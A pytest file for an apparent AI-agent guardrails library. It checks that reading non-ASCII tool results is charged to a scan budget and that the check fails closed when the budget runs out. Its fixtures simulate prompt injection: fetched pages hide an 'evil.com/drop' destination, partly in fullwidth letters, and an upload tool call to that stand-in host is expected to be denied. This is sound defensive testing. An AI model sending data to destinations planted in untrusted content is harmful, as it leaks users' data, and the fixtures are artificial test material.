"""What reading a call's texts costs the provenance functions, and that it is bounded
(budget23; docs/security-model.md, promise 8).

Every text and value they compare is read through one normalisation first
(``textforms.normal``: fillers removed, compatibility forms as ASCII, NFC). Before this,
that reading was charged to nothing: a cold history (session state restored in a replica
that had not seen it, or a busy process whose text cache of 256 had moved on) of 100
results of 64 KiB dense in compatibility characters cost the call 0.4-0.8 s, and a value
of 600 K such characters 130-150 ms on every call, each allowed. The reading of every
text that is not ASCII is charged to the call's scan budget now, by its length, alike
cold or warm (a process's cache never decides a call), and a call that runs the budget
out is an error of the rule (``failurePolicy``), as any exhausted scan.
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import pytest

import guardrails
from guardrails.expr import lib_provenance as lp
from tests.af_support import UNTRUSTED_UPLOAD as UPLOAD
from tests.af_support import load_text

NOTE = """apiVersion: guardrails/v1
kind: ToolPolicy
metadata: {name: note}
spec:
  match: {tools: ["note"]}
  rules:
    - name: names-evil
      when: '[1, 2, 3, 4].exists(i, (args.text + string(i)).mentions("evil.com"))'
      action: deny
"""

K = 65_536
DENSE = "\u3042\uff21\u200b"
"""Hiragana, a fullwidth letter and a zero-width space: every other character of the page
is one the normalisation rewrites."""


def _page(i: int, size: int = K, unit: str = DENSE) -> str:
    return (f"page {i} " + unit * (size // len(unit) + 1))[:size]


def _history(pages: list[str]) -> list[dict[str, Any]]:
    return [{"tool": "fetch", "args": {"url": f"https://news.example/{i}"}, "trusted": False,
             "effect": "allow", "result": page} for i, page in enumerate(pages)]


@pytest.fixture(name="upload")
def _upload(tmp_path: Path) -> guardrails.PolicySet:
    return load_text(tmp_path, UPLOAD)


@pytest.fixture(name="normalised")
def _normalised(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The length of every text the provenance functions normalise."""
    seen: list[int] = []
    real = lp.normal

    def counted(text: str) -> str:
        seen.append(len(text))
        return real(text)

    monkeypatch.setattr(lp, "normal", counted)
    return seen


def _errors(decision: guardrails.Decision) -> list[str]:
    return [e.message for e in decision.errors]


def test_a_cold_history_is_read_within_the_scan_budget(upload: guardrails.PolicySet,
                                                       normalised: list[int]) -> None:
    """100 fresh results of 64 KiB, dense: the call stops reading them when its scan
    budget is spent (it read all 6.5 M characters, 0.4-0.8 s, and allowed the call), and
    fails closed; a second call on the same (now cached) history decides alike."""
    history = _history([_page(i) for i in range(100)])
    decision = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                               history=history, request="Summarise the news")
    assert decision.effect == "deny"
    assert any("scanning budget" in m for m in _errors(decision))
    assert sum(normalised) < lp.SCAN_BUDGET // getattr(lp, "READ_COST", 1) + 2 * K
    again = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                            history=history, request="Summarise the news")
    assert (again.effect, _errors(again)) == (decision.effect, _errors(decision))


def test_the_reading_of_results_is_charged(upload: guardrails.PolicySet,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """Three results of 20 K characters, not ASCII, under a budget of 400,000: their
    searches alone cost a few thousand units, their reading is what runs it out (it was
    free); ASCII results as long cost it their passes only (about 150,000 since margin27
    charges a fresh page's first pass and the literal's search as they meet them; the
    budget was 200,000)."""
    monkeypatch.setattr(lp, "SCAN_BUDGET", 400_000)
    args = {"url": "https://acme.com/x"}
    plain = upload.evaluate(tool="upload", args=args, request="Summarise",
                            history=_history([_page(i, 20_000, "ascii ") for i in range(3)]))
    assert (plain.effect, _errors(plain)) == ("allow", [])
    spelled = upload.evaluate(tool="upload", args=args, request="Summarise",
                              history=_history([_page(i, 20_000, "\u043f\u0440\u0438 ")
                                                for i in range(3)]))
    assert spelled.effect == "deny"
    assert any("scanning budget" in m for m in _errors(spelled))


def test_a_long_value_is_read_once_and_charged(upload: guardrails.PolicySet,
                                               normalised: list[int],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A value of 150 K characters, not ASCII: normalised once a call (twice before:
    classified, then matched; 130-150 ms a call of 600 K), and charged by its length
    (its reading and its letters: one of 300 K is over the budget, red team 25)."""
    value = "https://acme.com/" + "\uff21\u3042" * 75_000
    decision = upload.evaluate(tool="upload", args={"url": value}, request="Summarise",
                               history=_history(["a page"]))
    assert decision.effect == "allow"
    assert sum(n for n in normalised if n >= len(value)) == len(value)
    monkeypatch.setattr(lp, "SCAN_BUDGET", 100_000)
    lp._matcher_of.cache_clear()
    over = upload.evaluate(tool="upload", args={"url": value + "x"}, request="Summarise",
                           history=_history(["a page"]))
    assert over.effect == "deny"
    assert any("scanning budget" in m for m in _errors(over))


def test_a_text_the_expression_builds_is_charged(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """``mentions`` on texts a rule builds (each one new to the cache): their reading is
    charged to the call's scan budget, not only their length to the evaluation's (an
    ASCII text's passes at a few units a character, calib26; one not ASCII at
    ``READ_COST``)."""
    monkeypatch.setattr(lp, "SCAN_BUDGET", 400_000)
    policies = load_text(tmp_path, NOTE)
    plain = policies.evaluate(tool="note", args={"text": "x " * 15_000})
    assert (plain.effect, _errors(plain)) == ("allow", [])
    spelled = policies.evaluate(tool="note", args={"text": "\u3042 " * 15_000})
    assert spelled.effect == "deny"
    assert any("scanning budget" in m for m in _errors(spelled))


def test_a_usual_non_ascii_history_is_read_whole(upload: guardrails.PolicySet) -> None:
    """Five pages of 4 KiB of Japanese (fullwidth punctuation, ideographic spaces): read
    whole, well within the budget; a destination one of them spells in fullwidth is still
    found, and nothing else is refused."""
    japanese = "\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8\uff08\u4f8b\uff09\u3002\u3000"
    pages = [_page(i, 4096, japanese) for i in range(5)]
    pages[3] = pages[3][:2000] + " https://\uff45\uff56\uff49\uff4c.com/drop " + pages[3][2000:]
    request = "Summarise the news"
    fine = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                           history=_history(pages), request=request)
    assert (fine.effect, _errors(fine)) == ("allow", [])
    hidden = upload.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
                             history=_history(pages), request=request)
    assert (hidden.effect, _errors(hidden)) == ("deny", [])
    assert [f.rule for f in hidden.rules] == ["injected-destination"]


def test_a_realistic_mixed_history_of_200_kib_is_read_whole(upload: guardrails.PolicySet) -> None:
    """Ten results of 20 KiB, Japanese, Russian and accented English pages and their
    arguments (a session of browsing, 200 KiB not ASCII: 6.5 M of the 16.8 M units): every
    one is read, the last one too, where a destination is spelled in fullwidth letters."""
    units = ["\u65e5\u672c\u8a9e\u306e\u30cb\u30e5\u30fc\u30b9\u3002\u3000",
             "\u041d\u043e\u0432\u043e\u0441\u0442\u0438 \u0434\u043d\u044f. ",
             "Caf\u00e9 cr\u00e8me, na\u00efve r\u00e9sum\u00e9 \u2014 ",
             "\uff08\u682a\uff09\u6771\u4eac\uff11\uff12\uff13\u756a\u5730 "]
    pages = [_page(i, 20_480, units[i % len(units)]) for i in range(10)]
    pages[9] = pages[9][:19_000] + " \uff48\uff54\uff54\uff50\uff53://\uff45\uff56\uff49\uff4c.com/drop " \
        + pages[9][19_000:]
    history = _history(pages)
    for i, entry in enumerate(history):
        entry["args"] = {"url": f"https://news.example/{i}", "query": units[i % len(units)] * 8}
    assert sum(len(p) for p in pages) >= 200 * 1024
    request = "\u30cb\u30e5\u30fc\u30b9\u3092\u307e\u3068\u3081\u3066 (summarise the news)"
    fine = upload.evaluate(tool="upload", args={"url": "https://acme.com/\u30ec\u30dd\u30fc\u30c8"},
                           history=history, request=request)
    assert (fine.effect, _errors(fine)) == ("allow", [])
    hidden = upload.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
                             history=history, request=request)
    assert (hidden.effect, _errors(hidden)) == ("deny", [])
    assert [f.rule for f in hidden.rules] == ["injected-destination"]


def test_ungluing_a_result_is_charged(upload: guardrails.PolicySet) -> None:
    """A sentence glued to a host (``a.b.Com``) is moved off it one match at a time in
    Python (``_unglue``, about 1.3 µs a match): 100 fresh ASCII results of 64 KiB made of
    them cost the call about 1 s, charged nothing (ASCII is free to read). Each match is
    charged now (``GLUE_COST``), alike cold or warm; a page with a few is read whole.
    100 such pages naming the value cost the call 110 ms (calib26: every pass over each,
    its reading, its search, its fields, charged now): the call runs its budget out
    and fails closed; 40 are read whole."""
    history = _history([_page(i, K, "a.b.Com ") for i in range(100)])
    decision = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                               history=history, request="Summarise the news")
    assert decision.effect == "deny"
    assert any("scanning budget" in m for m in _errors(decision))
    again = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                            history=history, request="Summarise the news")
    assert (again.effect, _errors(again)) == (decision.effect, _errors(decision))
    pages = [_page(i, K, "plain words " * 500 + "see www.evil.com.Then ") for i in range(100)]
    hidden = upload.evaluate(tool="upload", args={"url": "https://www.evil.com"},
                             history=_history(pages[:40]), request="Summarise the news")
    assert (hidden.effect, _errors(hidden)) == ("deny", [])
    over = upload.evaluate(tool="upload", args={"url": "https://www.evil.com"},
                           history=_history(pages), request="Summarise the news")
    assert over.effect == "deny"
    assert any("scanning budget" in m for m in _errors(over))


def test_reading_a_result_s_fields_is_charged(upload: guardrails.PolicySet) -> None:
    """A result that names the value is read field by field to tell whether one of them
    is the value whole (``Origins.whole``: each line and quoted string, about 1 µs of
    Python each): 100 untrusted results of 13,000 lines each cost one call 1.4-1.6 s,
    charged an eighth of a unit a character. Each line and quoted string is charged now
    (``FIELD_COST``), before they are read; a result of a few hundred records still is."""
    url = "https://acme.com/x"
    lines = _history([(f"{url} {i}\n" + "a: b\n" * (K // 5))[:K] for i in range(100)])
    decision = upload.evaluate(tool="upload", args={"url": url}, history=lines,
                               request="Summarise")
    assert decision.effect == "deny"
    assert any("scanning budget" in m for m in _errors(decision))
    records = "\n".join(f"- name: contact {i}\n  email: 'c{i}@example.com'" for i in range(300))
    found = upload.evaluate(tool="upload", args={"url": url}, request="Summarise",
                            history=_history([records + f"\nurl: {url}\n"] * 3))
    assert (found.effect, _errors(found)) == ("deny", [])
    assert [f.rule for f in found.rules] == ["injected-destination"]


def test_reading_the_kind_of_every_recorded_value_is_charged(upload: guardrails.PolicySet) -> None:
    """Where a result names the value, the arguments of the call that produced it are
    looked up in the request (``Origins.requested``): each value classified and turned into
    a search (15-40 µs), charged only its search. 3,600 fresh values in 100 entries cost
    one call 85-120 ms; each value's first use in a call is charged now (``VALUE_COST``)."""
    n = itertools.count()
    history = [{"tool": "fetch", "trusted": False, "effect": "allow",
                "result": "see https://acme.com/x",
                "args": {f"k{j}": [f"word{next(n)} other{next(n)}" for _ in range(12)]
                         for j in range(3)}} for _ in range(100)]
    decision = upload.evaluate(tool="upload", args={"url": "https://acme.com/x"},
                               history=history, request="Summarise the news for me")
    assert decision.effect == "deny"
    assert any("scanning budget" in m for m in _errors(decision))
